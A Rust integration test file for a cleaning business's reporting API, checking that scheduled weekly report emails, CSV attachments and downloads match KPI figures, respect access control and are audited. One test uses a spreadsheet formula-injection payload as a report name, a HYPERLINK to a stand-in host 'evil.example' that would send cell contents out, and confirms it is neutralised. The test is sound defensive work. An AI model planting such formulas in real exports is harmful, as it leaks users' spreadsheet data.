//! Scheduled reports carry their figures (issue #16, part 4), over HTTP against the server
//! process on the demo business, with a local Resend stand-in: the weekly report's email
//! holds the same figures `kpis` answers for its week, as text, HTML and an attached CSV;
//! the CSV downloaded later is the same bytes; a report named like a formula cannot run in
//! a spreadsheet; every download is audited.

use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::{json, Value};
use tests::app::{data, text, TestApp, DEMO_ADMIN};
use tests::health::assert_no_failures;
use tests::TestDb;

const CRON_SECRET: &str = "report-content-cron-secret-0123456789abcdef";
const BIN: &str = env!("CARGO_BIN_EXE_dirtfree-api");

/// The first email to `to` whose subject starts with `subject`, waiting up to 60 s.
async fn email(app: &TestApp, to: &str, subject: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some(m) = app.mailbox.sent().into_iter().find(|m| {
            m["to"] == json!([to]) && m["subject"].as_str().unwrap_or("").starts_with(subject)
        }) {
            return m;
        }
        assert!(Instant::now() < deadline, "no email {subject:?} to {to}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

fn attachment(m: &Value) -> (String, String) {
    let a = &m["attachments"][0];
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(a["content"].as_str().expect("base64 content"))
        .expect("decodes");
    (
        a["filename"].as_str().expect("filename").to_string(),
        String::from_utf8(bytes).expect("utf-8"),
    )
}

/// `kpis`' answer for a figure a report names (money in cents, rates in basis points).
fn kpi(k: &Value, figure: &str) -> Value {
    let pointer = match figure {
        "revenue_cents" => "/revenue/amountCents".to_string(),
        "new_customer_revenue_cents" => "/newCustomerRevenue/amountCents".into(),
        "returning_customer_revenue_cents" => "/returningCustomerRevenue/amountCents".into(),
        "promotion_attributed_revenue_cents" => "/promotionAttributedRevenue/amountCents".into(),
        "jobs_completed" => "/jobsCompleted".into(),
        "new_customers" => "/newCustomers".into(),
        "active_customers" => "/activeCustomers".into(),
        "lapsed_customers" => "/lapsedCustomers".into(),
        "opportunity_conversion_bp" => "/opportunityConversionBp".into(),
        "promotion_conversion_bp" => "/promotionConversionBp".into(),
        "reviews_received" => "/reviewsReceived".into(),
        "review_average_centi" => "/reviewAverageCenti".into(),
        "review_response_rate_bp" => "/reviewResponseRateBp".into(),
        "loyalty_enrolments" => "/loyaltyEnrolments".into(),
        "points_issued" => "/pointsIssued".into(),
        "points_redeemed" => "/pointsRedeemed".into(),
        "portal_logins" => "/portalLogins".into(),
        "online_bookings" => "/onlineBookings".into(),
        other => {
            if let Some(stars) = other
                .strip_prefix("reviews_")
                .and_then(|s| s.strip_suffix("_stars"))
            {
                let n: usize = stars.parse().expect("stars");
                format!("/reviewDistribution/{}", n - 1)
            } else if let Some(tier) = other.strip_suffix("_accounts") {
                let tiers = k["tierDistribution"].as_array().expect("tiers");
                let i = tiers
                    .iter()
                    .position(|t| t["tier"] == tier)
                    .unwrap_or_else(|| panic!("tier {tier}"));
                format!("/tierDistribution/{i}/accounts")
            } else {
                panic!("a figure kpis does not have: {other}")
            }
        }
    };
    k.pointer(&pointer)
        .unwrap_or_else(|| panic!("kpis{pointer}"))
        .clone()
}

const KPIS: &str = "query($f: NaiveDate!, $t: NaiveDate!) { kpis(from: $f, to: $t) {
    newCustomers jobsCompleted revenue { amountCents } newCustomerRevenue { amountCents }
    returningCustomerRevenue { amountCents } opportunityConversionBp promotionConversionBp
    reviewsReceived reviewResponseRateBp loyaltyEnrolments pointsIssued pointsRedeemed
    portalLogins onlineBookings promotionAttributedRevenue { amountCents } reviewAverageCenti
    reviewDistribution activeCustomers lapsedCustomers tierDistribution { tier accounts } } }";

#[tokio::test]
async fn the_weekly_report_emails_the_kpis_of_its_week_and_the_download_is_the_attachment() {
    let db = TestDb::new(tests::Engine::Postgres).await;
    let app = TestApp::start_demo(BIN, &db.url, &[("CRON_SECRET", CRON_SECRET)]).await;
    let login = app
        .gql(
            None,
            "mutation($i: LoginInput!) { login(input: $i) { token staffUserId } }",
            json!({"i": {"email": DEMO_ADMIN.0, "password": DEMO_ADMIN.1}}),
        )
        .await;
    let token = text(&login, "/data/login/token");
    let admin_id = text(&login, "/data/login/staffUserId");

    app.run_job(CRON_SECRET, "generate-weekly-report").await;
    let m = email(&app, DEMO_ADMIN.0, "Weekly report: ").await;
    let (file, csv) = attachment(&m);
    let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
    assert_eq!(
        rows[0],
        [
            "report",
            "period_start",
            "period_end",
            "metric",
            "figure",
            "value",
            "unit"
        ]
    );
    let (from, to) = (rows[1][1], rows[1][2]);
    assert_eq!(file, format!("report-{from}.csv"));
    let (start, end): (chrono::NaiveDate, chrono::NaiveDate) =
        (from.parse().expect("date"), to.parse().expect("date"));
    assert_eq!(
        start.format("%a").to_string(),
        "Mon",
        "a week starts on Monday"
    );
    assert_eq!((end - start).num_days(), 6);

    // Every figure is what kpis answers for the same week, and every metric is there.
    let k = app
        .gql(Some(&token), KPIS, json!({"f": from, "t": to}))
        .await;
    let k = data(&k, "/data/kpis").clone();
    let mut metrics = std::collections::BTreeSet::new();
    let mut nonzero = 0;
    for row in &rows[1..] {
        let (metric, figure, value) = (row[3], row[4], row[5]);
        metrics.insert(metric);
        let expected = kpi(&k, figure);
        let got = if value.is_empty() {
            Value::Null
        } else {
            json!(value.parse::<i64>().expect("a number"))
        };
        assert_eq!(got, expected, "{figure}");
        nonzero += usize::from(got.as_i64().unwrap_or(0) != 0);
    }
    assert_eq!(metrics.len(), 7, "{metrics:?}");
    assert!(nonzero >= 3, "the demo's week has figures: {csv}");

    // The text and HTML say the same, readably.
    let body = m["text"].as_str().expect("text");
    let revenue = k["revenue"]["amountCents"].as_i64().expect("cents");
    let dollars = format!(
        "\n  Revenue: ${}.{:02}\n",
        thousands(revenue / 100),
        revenue % 100
    );
    assert!(body.contains(&dollars), "{dollars} in {body}");
    let active = k["activeCustomers"].as_i64().expect("count");
    assert!(body.contains(&format!("Active customers: {}\n", thousands(active))));
    let html = m["html"].as_str().expect("html");
    assert!(
        html.contains("<table>") && html.contains("Active customers"),
        "{html}"
    );

    // The run lists where its CSV is; the download is the attachment, byte for byte.
    let reports = app
        .gql(
            Some(&token),
            "{ scheduledReports(first: 50) { nodes { name runs { periodStart status csvPath } } } }",
            json!({}),
        )
        .await;
    let weekly = data(&reports, "/data/scheduledReports/nodes")
        .as_array()
        .expect("reports")
        .iter()
        .find(|r| r["name"] == "Weekly report")
        .expect("the weekly report is a scheduled report")
        .clone();
    let path = weekly["runs"][0]["csvPath"]
        .as_str()
        .expect("csvPath")
        .to_string();
    assert_eq!(weekly["runs"][0]["periodStart"], from);
    let r = app.get(Some(&token), &path).await;
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.headers()["content-type"].to_str().expect("type"),
        "text/csv; charset=utf-8"
    );
    assert_eq!(r.bytes().await.expect("body").as_ref(), csv.as_bytes());

    // Managers only; an unknown period is 404.
    assert_eq!(app.get(None, &path).await.status(), 401);
    let staff = app.login(("staff@dirtfree.example", DEMO_ADMIN.1)).await;
    assert_eq!(app.get(Some(&staff), &path).await.status(), 403);
    let other = path.replace(from, "1999-01-04");
    assert_eq!(app.get(Some(&token), &other).await.status(), 404);

    // The download and a customer export are in the admin's audit trail.
    let customers = app
        .gql(Some(&token), "{ exportCsv(report: CUSTOMERS) }", json!({}))
        .await;
    assert!(text(&customers, "/data/exportCsv").starts_with("customer_id,"));
    let trail = app
        .gql(
            Some(&token),
            "query($id: ID!) { auditTrail(aggregateType: \"StaffUser\", id: $id, last: 20) { nodes { eventType actor } } }",
            json!({"id": admin_id}),
        )
        .await;
    let exports = data(&trail, "/data/auditTrail/nodes")
        .as_array()
        .expect("nodes")
        .iter()
        .filter(|n| n["eventType"] == "StaffDataExported")
        .count();
    assert_eq!(exports, 2, "{trail}");

    // It goes to the active managers and admins of each run: the manager deactivated, the
    // next run leaves them out.
    let staff_list = app
        .gql(
            Some(&token),
            "{ staffUsers(first: 100) { nodes { id email } } }",
            json!({}),
        )
        .await;
    let manager = data(&staff_list, "/data/staffUsers/nodes")
        .as_array()
        .expect("staff")
        .iter()
        .find(|u| u["email"] == "manager@dirtfree.example")
        .expect("the demo manager")["id"]
        .clone();
    let r = app
        .gql(
            Some(&token),
            "mutation($i: DeactivateStaffUserInput!) { deactivateStaffUser(input: $i) { position } }",
            json!({"i": {"staffUserId": manager}}),
        )
        .await;
    app.sync(&token, &text(&r, "/data/deactivateStaffUser/position"))
        .await;
    let recipients = || async {
        let r = app
            .gql(
                Some(&token),
                "{ scheduledReports(first: 50) { nodes { name recipients } } }",
                json!({}),
            )
            .await;
        data(&r, "/data/scheduledReports/nodes")
            .as_array()
            .expect("reports")
            .iter()
            .find(|r| r["name"] == "Weekly report")
            .expect("weekly")["recipients"]
            .clone()
    };
    assert!(recipients()
        .await
        .as_array()
        .expect("list")
        .contains(&json!("manager@dirtfree.example")));
    app.run_job(CRON_SECRET, "generate-weekly-report").await;
    let deadline = Instant::now() + Duration::from_secs(10);
    while recipients()
        .await
        .as_array()
        .expect("list")
        .contains(&json!("manager@dirtfree.example"))
    {
        assert!(Instant::now() < deadline, "the manager still receives it");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(recipients()
        .await
        .as_array()
        .expect("list")
        .contains(&json!(DEMO_ADMIN.0)));
    assert_no_failures(&app.server.base).await;
}

/// `1234567` → `1,234,567`.
fn thousands(n: i64) -> String {
    let digits = n.abs().to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    if n < 0 {
        format!("-{out}")
    } else {
        out
    }
}

#[tokio::test]
async fn a_report_named_like_a_formula_is_text_in_its_csv() {
    let db = TestDb::new(tests::Engine::Postgres).await;
    let app = TestApp::start_with(BIN, &db.url, &[("CRON_SECRET", CRON_SECRET)]).await;
    let token = app.login_admin().await;
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let r = app
        .gql(
            Some(&token),
            "mutation($i: DefineScheduledReportInput!) { defineScheduledReport(input: $i) { position } }",
            json!({"i": {"name": name, "metrics": ["REVENUE", "REVIEWS"], "period": "DAILY",
                         "recipients": [tests::app::ADMIN.0], "cron": "* * * * *"}}),
        )
        .await;
    assert!(r["errors"].is_null(), "{r}");
    app.run_job(CRON_SECRET, "generate-scheduled-reports").await;
    let m = email(&app, tests::app::ADMIN.0, name).await;
    let (_, csv) = attachment(&m);
    let row = csv.lines().nth(1).expect("a figure");
    assert!(
        row.starts_with("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\","),
        "{row}"
    );
    let html = m["html"].as_str().expect("html");
    assert!(!html.contains("\"http://evil"), "quotes escaped: {html}");
    assert_no_failures(&app.server.base).await;
}
